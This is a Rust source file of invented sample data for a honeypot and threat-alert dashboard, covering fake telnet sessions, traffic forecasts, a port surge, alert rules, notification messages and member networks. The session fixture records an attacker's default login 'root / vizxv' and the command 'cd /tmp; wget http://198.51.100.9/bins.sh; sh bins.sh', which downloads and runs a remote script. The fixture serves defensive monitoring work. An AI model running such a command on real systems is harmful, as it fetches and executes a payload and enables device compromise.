//! Invented dialogues, outlooks, members and messages, so that every screen can be seen with something on it.

use noroshi_api::memory::Extras;
use noroshi_api::scope::Tlp;
use noroshi_api::views::{
    ChannelView, Expected, IncidentLine, Interval, MemberView, MessageView, OutlookView, RuleView, Score,
    SessionDetail, SessionView, Step, SurgeView, WarningView,
};
use noroshi_model::Nanos;
use noroshi_model::time::SECOND;

const HOUR: i64 = 3600 * SECOND;
const SLOTS: i64 = 72;

/// All of it, as of now.
pub fn extras(now: Nanos) -> Extras {
    Extras {
        sessions: (0..12).map(|n| session(now, n)).collect(),
        surges: vec![surge(now)],
        outlook: vec![outlook(now, "total", 9000.0), outlook(now, "tcp/23", 2400.0)],
        warning: warning(),
        messages: (0..9).map(|n| message(now, n)).collect(),
        members: vec![member("example-net", "Example Network", "en"), member("example-univ", "見本大学", "ja")],
    }
}

fn session(now: Nanos, n: i64) -> SessionDetail {
    let typed =
        ["enable", "system", "shell", "cat /proc/mounts", "cd /tmp; wget http://198.51.100.9/bins.sh; sh bins.sh"];
    let steps = typed.iter().enumerate().map(|(at, line)| Step {
        at: 1.5 + at as f64,
        kind: "command".into(),
        input: Some((*line).into()),
        ..Step::default()
    });
    let login = Step { at: 0.6, kind: "login".into(), input: Some("root / vizxv".into()), ..Step::default() };
    let view = SessionView {
        id: format!("tokyo-1~noroshi~s{n}"),
        ts: Nanos(now.0 - n * 1_700 * SECOND),
        seconds: 8.4,
        sensor: "tokyo-1".into(),
        origin: "noroshi".into(),
        src: Some(format!("203.0.113.{}", 10 + n)),
        country: Some(["BR", "CN", "VN", "US"][n as usize % 4].into()),
        dport: Some(23),
        protocol: "telnet".into(),
        logins_accepted: 1,
        logins_refused: n as u64,
        credentials: vec!["root:vizxv".into()],
        commands: typed.iter().map(|line| (*line).to_owned()).collect(),
        urls: vec!["http://198.51.100.9/bins.sh".into()],
        hashes: vec![format!("{:064x}", 0xfeed_0000_u64 + (n % 3) as u64)],
        bytes_in: 420,
        bytes_out: 3100,
        ..SessionView::default()
    };
    SessionDetail { session: view, steps: std::iter::once(login).chain(steps).collect() }
}

fn wave(slot: i64, size: f64) -> f64 {
    let day = (slot as f64 * std::f64::consts::TAU / 24.0).sin();
    (size * (1.0 + 0.35 * day) + size * 0.06 * ((slot * 7919 % 13) as f64 - 6.0) / 6.0).round()
}

fn outlook(now: Nanos, key: &str, size: f64) -> OutlookView {
    let start = |slot: i64| Nanos(now.0.div_euclid(HOUR) * HOUR - (SLOTS - slot) * HOUR);
    let slots = (0..=SLOTS).map(|slot| {
        let point = size * (1.0 + 0.35 * (slot as f64 * std::f64::consts::TAU / 24.0).sin());
        let known = slot >= 24;
        let around = |share: f64| known.then_some(Interval { low: point * (1.0 - share), high: point * (1.0 + share) });
        Expected {
            start: start(slot),
            actual: (slot < SLOTS).then(|| wave(slot, size)),
            point: known.then_some(point),
            interval80: around(0.08),
            interval95: around(0.14),
        }
    });
    OutlookView {
        key: key.into(),
        slot_seconds: 3600,
        slots: slots.collect(),
        score: Some(Score {
            slots: 48,
            error: size * 0.03,
            naive_error: Some(size * 0.05),
            naive: Some("seasonal naive".into()),
            inside80: Some(0.83),
        }),
        methods: vec!["seasonal".into(), "smoothing".into()],
    }
}

fn surge(now: Nanos) -> SurgeView {
    let values: Vec<_> =
        (0..SLOTS).map(|slot| Some(if slot == SLOTS - 1 { 5200.0 } else { wave(slot, 300.0) })).collect();
    SurgeView {
        key: "tcp/37777".into(),
        filter: "proto = tcp and dport = 37777".into(),
        start: Nanos(now.0.div_euclid(HOUR) * HOUR - HOUR),
        slot_seconds: 3600,
        count: 5200.0,
        usual: 300.0,
        probability: 1e-12,
        new: false,
        reason: "5,200 packets where 300 are usual".into(),
        values,
    }
}

fn warning() -> WarningView {
    let rule = |name: &str, action: &str, conditions: &[&str]| RuleView {
        name: name.into(),
        action: action.into(),
        conditions: conditions.iter().map(|text| (*text).to_owned()).collect(),
        built_in: true,
        messages: 0,
        confirmed: 0,
        false_alarms: 0,
        mitigated_seconds: None,
    };
    WarningView {
        configured: true,
        confirmed: 14,
        false_alarms: 1,
        rules: vec![
            rule("unsure waits", "daily", &["confidence < 0.5"]),
            rule("severe at once", "alert", &["severity ≥ medium"]),
            rule("the rest", "daily", &[]),
        ],
        ..WarningView::default()
    }
}

fn message(now: Nanos, n: i64) -> MessageView {
    let state = ["delivered", "delivered", "queued", "failed", "withheld"][n as usize % 5];
    let severity = ["high", "medium", "low"][n as usize % 3];
    MessageView {
        id: format!("m{n}"),
        recipient: "example-net/mail".into(),
        member: "example-net".into(),
        kind: "immediate".into(),
        severity: severity.into(),
        tlp: Tlp::Amber,
        created: Nanos(now.0 - n * 2_400 * SECOND),
        rule: "severe at once".into(),
        state: state.into(),
        attempts: 1 + (n % 3) as u32,
        reason: match state {
            "failed" => Some("the mail server answers 550: no such mailbox".into()),
            "withheld" => Some("the label is stricter than the member's ceiling".into()),
            _ => None,
        },
        incidents: vec![IncidentLine {
            id: format!("i{n}"),
            kind: if n % 2 == 0 { "attack" } else { "infection" }.into(),
            subject: format!("192.0.2.{}", 20 + n),
            severity: severity.into(),
            confidence: 0.9,
        }],
    }
}

fn member(id: &str, name: &str, language: &str) -> MemberView {
    MemberView {
        id: id.into(),
        name: name.into(),
        prefixes: vec!["192.0.2.0/24".into(), "2001:db8:7::/48".into()],
        dark: vec!["192.0.2.240/28".into()],
        asns: vec![64_500],
        contacts: vec!["NOC <noc@example.net>".into()],
        channels: vec![
            ChannelView { name: "mail".into(), kind: "mail".into(), severity_min: "low".into() },
            ChannelView { name: "chat".into(), kind: "webhook".into(), severity_min: "high".into() },
        ],
        language: language.into(),
        time_zone: "Asia/Tokyo".into(),
        quiet_hours: Some("22:00–07:00".into()),
        tlp_ceiling: Tlp::Amber,
        messages: 9,
    }
}
